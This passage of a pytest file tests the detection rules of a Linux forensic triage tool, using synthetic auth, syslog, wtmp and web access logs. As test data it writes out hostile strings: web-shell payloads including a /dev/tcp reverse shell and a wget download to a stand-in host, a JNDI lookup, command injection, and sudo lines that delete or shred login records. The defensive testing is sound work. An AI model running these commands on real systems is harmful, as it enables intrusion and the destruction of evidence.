        ("usermod[4030]", "add 'postgres' to group 'ssl-cert'"),
    ]] + [line(at(6, "05:00:00"), "useradd[5001]", "new user: name=_chrony, UID=101, GID=108, home=/var/lib/chrony, "
                                                    "shell=/usr/sbin/nologin, from=none", host)]
    write(tmp_path, "/var/log/auth.log", boot + package)
    write(tmp_path, "/var/log/cloud-init.log", [
        "2026-12-06 00:00:40,101 - distros[DEBUG]: Adding user ubuntu",
        "2026-12-06 00:00:40,102 - subp.py[DEBUG]: Running hidden command to protect sensitive input/output "
        "logstring: ['useradd', 'ubuntu', '--comment', 'Ubuntu', '--groups', 'adm,cdrom,dip,lxd,sudo', '--shell', "
        "'/bin/bash', '-m']",
        "2026-12-06 00:00:42,500 - subp.py[DEBUG]: Running hidden command to protect sensitive input/output "
        "logstring: ['chpasswd']",
    ])
    write(tmp_path, "/var/log/dpkg.log", [
        "2026-12-06 03:29:58 startup archives unpack",
        "2026-12-06 03:29:59 install postgresql-15:amd64 <none> 15.10-0+deb12u1",
        "2026-12-06 03:30:01 status unpacked postgresql-15:amd64 15.10-0+deb12u1",
        "2026-12-06 03:30:03 configure postgresql-common:all 248 <none>",
        "2026-12-06 03:30:09 status installed postgresql-common:all 248",
    ])
    records, _ = collect(tmp_path)
    origins = {(e["event"], e.get("user") or e.get("group")): e["origin"] for e in events(records)}
    assert origins[("user_added", "ubuntu")] == "cloud-init" and origins[("password_changed", "ubuntu")] == "cloud-init"
    assert origins[("user_added", "postgres")] == "package" and origins[("user_added", "_chrony")] == "system"
    quiet(findings(tmp_path))


def test_logging_stopped_while_up(tmp_path):
    zone(tmp_path)
    write(tmp_path, "/var/log/syslog", [
        line(at(5, "00:00:01"), "rsyslogd", RSYSLOG.format(pid=488) + " start"),
        line(at(6, "01:10:00"), "systemd[1]", "Stopping rsyslog.service - System Logging Service..."),
        line(at(6, "01:10:00"), "rsyslogd", RSYSLOG.format(pid=488) + " exiting on signal 15."),
        line(at(6, "01:40:00"), "rsyslogd", RSYSLOG.format(pid=900) + " start"),
        line(at(6, "01:40:00"), "kernel", "[ 9000.1] audit: type=1305 audit(1796519000.100:250): op=set "
                                          "audit_enabled=0 old=1 auid=1000 ses=4 subj=unconfined res=1"),
    ])
    write(tmp_path, "/var/log/auth.log", [line(at(5, "00:00:05"), "sshd[1]", "Accepted password for a from 10.0.0.1 "
                                                                            "port 1 ssh2")])
    found = by_rule(findings(tmp_path))
    stop = found["TRI-AUTH-007"]
    assert len(stop) == 1 and stop[0]["severity"] == "high" and "rsyslogd stopped at 2026-12-06T01:10:00Z" in \
        stop[0]["summary"] and "silent for 1800 s" in stop[0]["summary"]
    assert found["TRI-AUTH-008"][0]["severity"] == "medium"


def test_reboot_and_restart_of_the_logger_are_quiet(tmp_path):
    zone(tmp_path)
    write(tmp_path, "/var/log/syslog", [
        line(at(5, "00:00:01"), "rsyslogd", RSYSLOG.format(pid=488) + " start"),
        # logrotate or an upgrade restarts it
        line(at(6, "02:10:00"), "systemd[1]", "Stopping rsyslog.service - System Logging Service..."),
        line(at(6, "02:10:00"), "rsyslogd", RSYSLOG.format(pid=488) + " exiting on signal 15."),
        line(at(6, "02:10:00"), "systemd[1]", "rsyslog.service: Deactivated successfully."),
        line(at(6, "02:10:00"), "systemd[1]", "Stopped rsyslog.service - System Logging Service."),
        line(at(6, "02:10:00"), "systemd[1]", "Starting rsyslog.service - System Logging Service..."),
        line(at(6, "02:10:00"), "rsyslogd", RSYSLOG.format(pid=2211) + " start"),
        line(at(6, "02:10:00"), "systemd[1]", "Started rsyslog.service - System Logging Service."),
        # a reboot: logind says so, rsyslog stops, the kernel boots (its messages read back by imklog)
        line(at(6, "03:00:00"), "systemd-logind[512]", "The system will reboot now!"),
        line(at(6, "03:00:00"), "systemd-logind[512]", "System is rebooting."),
        line(at(6, "03:00:01"), "systemd[1]", "Stopping rsyslog.service - System Logging Service..."),
        line(at(6, "03:00:01"), "rsyslogd", RSYSLOG.format(pid=2211) + " exiting on signal 15."),
        line(at(6, "03:00:31"), "rsyslogd", RSYSLOG.format(pid=470) + " start"),
        line(at(6, "03:00:31"), "kernel", KERNEL + " (gcc-12 (Debian 12.2.0-14) 12.2.0) #1 SMP PREEMPT_DYNAMIC Debian "
                                                   "6.1.119-1"),
        line(at(6, "03:00:32"), "kernel", "[    1.200000] audit: type=2000 audit(1796526031.100:1): state=initialized "
                                          "audit_enabled=0 res=1"),
        # a crash: no shutdown said, the next thing is a boot
        line(at(6, "05:00:00"), "systemd-journald[300]", "Journal stopped"),
        line(at(6, "05:03:00"), "kernel", KERNEL),
        line(at(6, "05:03:01"), "systemd-journald[280]", "Journal started"),
    ])
    write(tmp_path, "/var/log/auth.log", [line(at(5, "00:00:05"), "sshd[1]", "Accepted password for a from 10.0.0.1 "
                                                                            "port 1 ssh2")])
    records, _ = collect(tmp_path)
    contexts = [(e["time_utc"][11:19], e["context"]) for e in events(records, "logging_stopped")]
    assert contexts == [("02:10:00", "restart"), ("03:00:01", "shutdown"), ("05:00:00", "shutdown")]
    quiet(findings(tmp_path))


def _cleared_root(root: Path) -> None:
    """syslog holds four days; auth.log was emptied on day 4 and holds only what came after; wtmp keeps
    alice's login of day 2."""
    zone(root)
    write(root, "/var/log/syslog", merged(syslog_span(at(2, "00:00:01"), at(6, "20:00:00"))))
    write(root, "/var/log/auth.log", merged(cron_sessions(at(5, "12:17:01"), at(6, "20:17:01"))))
    wtmp(root, [("alice", OTHER_PUBLIC, at(3, "10:00:00"))])


def test_auth_log_cleared(tmp_path):
    _cleared_root(tmp_path)
    found = by_rule(findings(tmp_path))
    assert found["TRI-AUTH-009"][0]["severity"] == "high"
    assert f"alice from {OTHER_PUBLIC} at 2026-12-03T10:00:00Z" in found["TRI-AUTH-009"][0]["summary"]
    assert found["TRI-AUTH-010"][0]["severity"] == "medium"


def test_auth_log_emptied(tmp_path):
    """auth.log truncated to nothing (`> /var/log/auth.log`) while syslog and wtmp keep the days before."""
    zone(tmp_path)
    write(tmp_path, "/var/log/syslog", merged(syslog_span(at(3, "00:00:01"), at(6, "20:00:00"))))
    write(tmp_path, "/var/log/auth.log", b"")
    wtmp(tmp_path, [("root", ATTACKER, at(4, "02:00:00")), ("alice", BASTION, at(5, "09:00:00"))])
    found = by_rule(findings(tmp_path))
    assert found["TRI-AUTH-009"][0]["severity"] == "high" and "2 login(s)" in found["TRI-AUTH-009"][0]["summary"]
    # the same empty auth.log on a host nobody logged in to says nothing
    wtmp(tmp_path, [])
    quiet(findings(tmp_path))


def test_auth_log_lines_deleted(tmp_path):
    """The attacker's Accepted line was cut out of an auth.log that still covers that time."""
    zone(tmp_path)
    write(tmp_path, "/var/log/syslog", merged(syslog_span(at(4, "00:00:01"), at(6, "20:00:00"))))
    write(tmp_path, "/var/log/auth.log", merged(cron_sessions(at(4, "00:17:01"), at(6, "20:17:01")),
                                                accepted(at(5, "09:00:00"), "alice", BASTION, 900, FP_ADMIN)))
    wtmp(tmp_path, [("alice", BASTION, at(5, "09:00:01")), ("root", ATTACKER, at(5, "23:40:00"))])
    found = by_rule(findings(tmp_path))
    assert "1 login(s)" in found["TRI-AUTH-009"][0]["summary"] and ATTACKER in found["TRI-AUTH-009"][0]["summary"]
    assert "TRI-AUTH-010" not in found


def test_zone_changed_after_the_lines_were_written_is_quiet(tmp_path):
    """The lines were written while the host ran in UTC; the admin then set Europe/Berlin. Read with the
    new zone they sit an hour off wtmp's logins: still logged, not a deleted line."""
    zone(tmp_path, "Europe/Berlin")
    write(tmp_path, "/var/log/syslog", merged(syslog_span(at(3, "00:00:01"), at(6, "20:00:00"))))
    write(tmp_path, "/var/log/auth.log", merged(cron_sessions(at(3, "00:17:01"), at(6, "20:17:01")),
                                                accepted(at(5, "09:00:00"), "alice", BASTION, 900, FP_ADMIN)))
    wtmp(tmp_path, [("alice", BASTION, at(5, "09:00:01"))])
    records, _ = collect(tmp_path)
    assert [r["unlogged_logins"] for r in records if r["kind"] == "log_family"] == [0]
    quiet(findings(tmp_path))


def test_login_lines_cut_with_sed(tmp_path):
    """sed -i '/<address>/d' auth.log and the login cut out of wtmp too: the session's PAM line, which does
    not name the address, stays without its Accepted line."""
    zone(tmp_path)
    login = accepted(at(5, "22:10:00"), "ubuntu", ATTACKER, 4242)
    sudo = [(at(5, "22:10:20"), line(at(5, "22:10:20"), "sudo", "  ubuntu : TTY=pts/0 ; PWD=/home/ubuntu ; "
                                                                "USER=root ; COMMAND=/bin/bash"))]
    write(tmp_path, "/var/log/auth.log", merged(
        cron_sessions(at(5, "00:17:01"), at(6, "20:17:01")), accepted(at(5, "09:00:00"), "alice", BASTION, 900),
        [p for p in login + sudo if ATTACKER not in p[1]]))
    found = by_rule(findings(tmp_path))
    assert [f["severity"] for f in found["TRI-AUTH-018"]] == ["high"]
    assert "1 SSH session(s)" in found["TRI-AUTH-018"][0]["summary"] and "ubuntu at 2026-12-05T22:10:00Z" in \
        found["TRI-AUTH-018"][0]["summary"]


def test_young_host_with_short_logs_is_quiet(tmp_path):
    """A host booted two hours ago: short logs, an empty btmp, logins that auth.log does hold."""
    zone(tmp_path)
    write(tmp_path, "/var/log/syslog", merged(syslog_span(at(6, "18:00:01"), at(6, "20:00:00"))))
    write(tmp_path, "/var/log/auth.log", merged(cron_sessions(at(6, "18:17:01"), at(6, "19:17:01")),
                                                accepted(at(6, "19:30:00"), "ubuntu", ATTACKER, 77, FP_ADMIN)))
    write(tmp_path, "/var/log/btmp", b"")
    write(tmp_path, "/var/log/auth.log.1", b"")
    wtmp(tmp_path, [("ubuntu", ATTACKER, at(6, "19:30:01"))])
    records, _ = collect(tmp_path)
    family = [r for r in records if r["kind"] == "log_family"][0]
    assert family["unlogged_logins"] == 0 and family["wtmp_remote_logins"] == 1
    assert [r["empty"] for r in records if r["kind"] == "log_file" and r["family"] == "auth"] == [False, True]
    quiet(findings(tmp_path))


def test_sudo_and_su(tmp_path):
    zone(tmp_path)
    d = at(6, "04:00:00")
    write(tmp_path, "/var/log/auth.log", [
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/dev/shm ; USER=root ; COMMAND=/dev/shm/.x/kworker -d"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh /tmp/install.sh"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash"),
        line(d, "su[812]", "(to root) www-data on pts/3"),
        line(d, "su[812]", "pam_unix(su:session): session opened for user root(uid=0) by www-data(uid=33)"),
        line(d, "sudo", "     bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/sed -i "
                        "/45.155.205.233/d /var/log/auth.log"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/sh -c echo > "
                        "/var/log/wtmp"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/var/log ; USER=root ; COMMAND=/usr/bin/shred -u /var/log/btmp"),
    ])
    found = by_rule(findings(tmp_path))
    assert len(found["TRI-AUTH-019"]) == 3 and {f["severity"] for f in found["TRI-AUTH-019"]} == {"high"}
    assert found["TRI-AUTH-011"][0]["severity"] == "high"
    assert "/dev/shm/.x/kworker" in found["TRI-AUTH-011"][0]["summary"]
    assert [f["summary"] for f in found["TRI-AUTH-012"]] == ["web1: alice ran as root: /bin/sh /tmp/install.sh"]
    assert found["TRI-AUTH-013"][0]["severity"] == "high" and "www-data became root" in \
        found["TRI-AUTH-013"][0]["summary"]
    assert found["TRI-AUTH-014"][0]["severity"] == "low" and found["TRI-AUTH-015"][0]["severity"] == "low"


def test_admin_sudo_and_su_are_quiet(tmp_path):
    zone(tmp_path)
    d = at(6, "04:00:00")
    write(tmp_path, "/var/log/auth.log", [
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt upgrade -y"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/dpkg -i ./tool_1.0_amd64.deb"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/su -"),
        line(d, "su[813]", "(to root) alice on pts/0"),
        line(d, "su[813]", "pam_unix(su-l:session): session opened for user root(uid=0) by alice(uid=1000)"),
        line(d, "sudo", "pam_unix(sudo:session): session opened for user www-data(uid=33) by alice(uid=1000)"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/var/www ; USER=www-data ; COMMAND=/usr/bin/php artisan migrate"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/tail -n 200 "
                        "/var/log/auth.log"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/grep -c Failed "
                        "/var/log/auth.log"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/journalctl -u ssh "
                        "--since today"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/rm -f "
                        "/var/log/nginx/access.log.14.gz"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/sbin/logrotate -f "
                        "/etc/logrotate.conf"),
        line(d, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/rm /var/log/syslog.7.gz "
                        "/var/log/auth.log.4.gz"),
    ])
    quiet(findings(tmp_path))


def test_web_command_and_web_shells(tmp_path):
    write(tmp_path, "/var/log/nginx/access.log", [
        f'{OTHER_PUBLIC} - - [06/Dec/2026:01:05:00 +0000] "POST /wp-content/uploads/2026/12/cache.php HTTP/1.1" 200 31 '
        '"-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
        f'{OTHER_PUBLIC} - - [06/Dec/2026:01:05:10 +0000] "GET /wp-content/uploads/2026/12/cache.php'
        '?cmd=cat+/etc/passwd HTTP/1.1" 200 1530 "-" "curl/7.88.1"',
        f'{OTHER_PUBLIC} - - [06/Dec/2026:01:06:00 +0000] "GET /wp-content/themes/twentytwentyfour/footer.php?c='
        '%77%68%6f%61%6d%69 HTTP/1.1" 200 9 "-" "curl/7.88.1"',
    ] + [f'{OTHER_PUBLIC} - - [06/Dec/2026:01:0{i}:30 +0000] "POST /wp-content/themes/twentytwentyfour/footer.php '
         f'HTTP/1.1" 200 {100 + i} "-" "Mozilla/5.0"' for i in range(6, 9)])
    found = by_rule(findings(tmp_path))
    assert {f["summary"].split(" (")[0] for f in found["TRI-WEB-001"]} == {
        f"{OTHER_PUBLIC} ran a command through /wp-content/uploads/2026/12/cache.php",
        f"{OTHER_PUBLIC} ran a command through /wp-content/themes/twentytwentyfour/footer.php"}
    assert [f["severity"] for f in found["TRI-WEB-003"]] == ["high"]
    assert "/wp-content/uploads/2026/12/cache.php" in found["TRI-WEB-003"][0]["summary"]
    assert [f["path"] for f in found["TRI-WEB-002"]] == ["/wp-content/themes/twentytwentyfour/footer.php"]


WEB_COMMANDS = (
    ["/x.php?cmd=cat /etc/passwd", "/a/footer.php?c=whoami", "/i.php?x=1;id;", "/x.jsp?cmd=id",
     "/a.php?page=;wget http://1.2.3.4/x.sh -O /tmp/x", "/s.php?e=system('id')", "/?q=${jndi:ldap://x/a}",
     "/a.php?u=|bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
     "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"],
    ["/search?q=id card", "/list.php?c=id&sort=asc", "/blog?q=how to use whoami", "/p.php?run=1",
     "/docs?q=curl https://api.example.com", "/a?command=list", "/shop?category=shell", "/index.php?id=12"])


def test_web_record_cap_keeps_older_command_requests(tmp_path):
    write(tmp_path, "/var/log/nginx/access.log", [
        f'81.2.69.{i % 200} - - [06/Dec/2026:10:00:00 +0000] "GET /page/{i} HTTP/1.1" 200 512 "-" "Mozilla/5.0"'
        for i in range(300)])
    write(tmp_path, "/var/log/nginx/access.log.1", [
        f'{OTHER_PUBLIC} - - [05/Dec/2026:01:05:10 +0000] "GET /up/x.php?cmd=cat+/etc/passwd HTTP/1.1" 200 1530 "-" '
        '"curl/7.88.1"', '81.2.69.1 - - [05/Dec/2026:01:06:00 +0000] "GET /old HTTP/1.1" 200 5 "-" "Mozilla/5.0"'])
    records, problems = collect(tmp_path, "web", max_records=100)
    requests = [r for r in records if r["kind"] == "request"]
    assert len(requests) == 101 and requests[-1]["query"] == "cmd=cat+/etc/passwd"
    assert any("record cap" in p.message for p in problems)


def test_web_command_payloads():
    rule = RULES["TRI-WEB-001"]
    hits, misses = WEB_COMMANDS
    for target in hits:
        assert engine.matches(rule.condition, {"kind": "request", "status": 200, "decoded": target}, NOW), target
        assert not engine.matches(rule.condition, {"kind": "request", "status": 404, "decoded": target}, NOW), target
    for target in misses:
        assert not engine.matches(rule.condition, {"kind": "request", "status": 200, "decoded": target}, NOW), target


def test_scanner_noise_and_busy_sites_are_quiet(tmp_path):
    """Every public server's day: probes for wp-login, .env, shells and ?cmd= answered 404; WordPress log-ins,
    XML-RPC and cron POSTs; a contact form many people load and some post to; a search for "id card"."""
    lines = []
    scanners = [f"185.220.101.{i}" for i in range(1, 40)]
    for i, ip in enumerate(scanners):
        for target in ("/wp-login.php", "/.env", "/shell.php?cmd=id", "/uploads/x.php?cmd=cat+/etc/passwd",
                       "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"
                       "&vars[1][]=whoami", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"):
            lines.append(f'{ip} - - [06/Dec/2026:0{i % 10}:00:{i % 60:02d} +0000] "GET {target} HTTP/1.1" 404 153 "-" '
                         '"Mozilla/5.0 (compatible; scanner)"')
        lines.append(f'{ip} - - [06/Dec/2026:0{i % 10}:01:00 +0000] "POST /uploads/shell.php HTTP/1.1" 404 153 "-" "-"')
        lines.append(f'{ip} - - [06/Dec/2026:0{i % 10}:02:00 +0000] "POST /xmlrpc.php HTTP/1.1" 200 403 "-" "-"')
    for i in range(30):
        ip = f"81.2.69.{i + 10}"
        lines.append(f'{ip} - - [06/Dec/2026:10:{i:02d}:00 +0000] "GET /contact.php HTTP/1.1" 200 5120 "-" '
                     '"Mozilla/5.0"')
        lines.append(f'{ip} - - [06/Dec/2026:10:{i:02d}:00 +0000] "GET /search?q=id+card HTTP/1.1" 200 9000 "-" '
                     '"Mozilla/5.0"')
        lines.append(f'{ip} - - [06/Dec/2026:10:{i:02d}:05 +0000] "GET /wp-content/uploads/2026/11/photo.jpg HTTP/1.1" '
                     '200 88000 "-" "Mozilla/5.0"')
    lines += [f'81.2.69.10 - - [06/Dec/2026:11:0{i}:00 +0000] "POST /contact.php HTTP/1.1" 200 300 "-" "Mozilla/5.0"'
              for i in range(3)]
    lines += [f'81.2.69.11 - - [06/Dec/2026:11:0{i}:00 +0000] "POST /wp-login.php HTTP/1.1" 200 4000 "-" "Mozilla/5.0"'
              for i in range(3)]
    lines += [f'203.0.113.80 - - [06/Dec/2026:12:0{i}:00 +0000] "POST /wp-cron.php?doing_wp_cron=1796558400.1 '
              'HTTP/1.1" 200 0 "-" "WordPress/6.7; https://blog.example.com"' for i in range(5)]
    write(tmp_path, "/var/log/apache2/access.log", lines)
    quiet(findings(tmp_path))


def test_whole_run_collects_and_analyses_the_logs(tmp_path):
    """collect --root ... --profile triage then analyze: the auth and web_access streams are in the
    bundle, and the planted account and web shell are findings with a yes."""
    root = tmp_path / "root"
    _cleared_root(root)
    write(root, "/var/log/nginx/access.log", [
        f'{OTHER_PUBLIC} - - [06/Dec/2026:01:05:00 +0000] "POST /wp-content/uploads/2026/12/cache.php HTTP/1.1" 200 31 '
        '"-" "Mozilla/5.0"'])
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
    bundle = summary_of(run_triagent(["collect", "--root", str(root), "--profile", "triage",
                                      "--output", str(tmp_path / "out")]))["bundle"]
    proc = run_triagent(["analyze", bundle, "--output", str(tmp_path / "analysis")])
    summary = json.loads(proc.stdout.decode().strip().splitlines()[-1])
    with tarfile.open(summary["analysis"]) as tar:
        found = [json.loads(x) for x in tar.extractfile("triagent/artifacts/findings.jsonl").read().splitlines()]
        verdict = json.loads(tar.extractfile("triagent/verdict.json").read())
    rules = {f.get("rule") for f in found}
    assert {"TRI-AUTH-009", "TRI-WEB-003"} <= rules, sorted(r for r in rules if r)
    evidence = [f for f in found if f.get("rule") == "TRI-WEB-003"][0]["evidence"][0]
    assert evidence["member"] == "triagent/artifacts/web_access.jsonl"
    assert verdict["recommendation"] == "yes"


def test_whole_run_of_a_clean_public_server_says_no(tmp_path):
    """Internet noise on SSH and the web, a reboot, cloud-init's first boot, an admin's sudo: no finding of
    these rules above low, and the verdict is no. A rotated auth log that is a link to /etc/shadow is
    withheld, never parsed into records."""
    root = tmp_path / "root"
    zone(root)
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
    secret = "$6$saltsalt$4bZ0R2l4cEJ0c2VjcmV0aGFzaHRoYXRtdXN0bm90bGVhaw"
    (root / "etc/shadow").write_text(f"root:{secret}:19000:0:99999:7:::\n")
    write(root, "/var/log/syslog", merged(syslog_span(at(5, "00:00:01"), at(6, "20:00:00"))) + [
        line(at(6, "03:00:00"), "systemd-logind[512]", "System is rebooting."),
        line(at(6, "03:00:01"), "rsyslogd", RSYSLOG.format(pid=2211) + " exiting on signal 15."),
        line(at(6, "03:00:31"), "rsyslogd", RSYSLOG.format(pid=470) + " start"),
        line(at(6, "03:00:31"), "kernel", KERNEL)])
    noise = [p for i in range(20) for p in failures(f"185.220.101.{i + 1}", at(6, "04:00:00") + dt.timedelta(
        minutes=i), 15, user="admin", pid=10000 + 100 * i)]
    write(root, "/var/log/auth.log", merged(
        cron_sessions(at(5, "00:17:01"), at(6, "20:17:01")), noise,
        accepted(at(6, "09:00:00"), "alice", BASTION, 9200, FP_ADMIN),
        [(at(6, "09:01:00"), line(at(6, "09:01:00"), "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
                                                             "COMMAND=/usr/bin/apt upgrade -y"))]))
    os.symlink("/etc/shadow", root / "var/log/auth.log.1")
    wtmp(root, [("alice", BASTION, at(6, "09:00:01"))])
    write(root, "/var/log/nginx/access.log", [
        f'185.220.101.{i} - - [06/Dec/2026:05:00:{i:02d} +0000] "GET {target} HTTP/1.1" 404 153 "-" "Mozilla/5.0"'
        for i in range(1, 30) for target in ("/wp-login.php", "/.env", "/shell.php?cmd=id")])
    bundle = summary_of(run_triagent(["collect", "--root", str(root), "--profile", "triage",
                                      "--output", str(tmp_path / "out")]))["bundle"]
    with tarfile.open(bundle) as tar:
        raw = {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}
    assert b"4bZ0R2l4cEJ0c2VjcmV0aGFzaHRoYXRtdXN0bm90bGVhaw" not in b"".join(raw.values())
    auth_records = [json.loads(x) for x in raw["triagent/artifacts/auth.jsonl"].splitlines()]
    assert not [r for r in auth_records if r.get("path") == "/var/log/auth.log.1"]
    assert "triagent/artifacts/web_access.jsonl" in raw
    proc = run_triagent(["analyze", bundle, "--output", str(tmp_path / "analysis")])
    summary = json.loads(proc.stdout.decode().strip().splitlines()[-1])
    with tarfile.open(summary["analysis"]) as tar:
        names = tar.getnames()
        found = [json.loads(x) for x in tar.extractfile("triagent/artifacts/findings.jsonl").read().splitlines()] \
            if "triagent/artifacts/findings.jsonl" in names else []
        verdict = json.loads(tar.extractfile("triagent/verdict.json").read())
    ours = [f for f in found if str(f.get("rule", "")).startswith(("TRI-AUTH", "TRI-WEB"))]
    quiet(ours)
    assert verdict["recommendation"] == "no", (verdict, [(f.get("rule"), f["severity"], f["summary"]) for f in found])


@pytest.mark.parametrize("text_, public", [("45.155.205.233", True), ("10.1.2.3", False), ("100.64.0.1", False),
                                           ("::ffff:45.155.205.233", True), ("fe80::1%eth0", False),
                                           ("host.example.com", None), ("127.0.0.1", False)])
def test_is_public(text_, public):
    assert logs.is_public(text_) is public
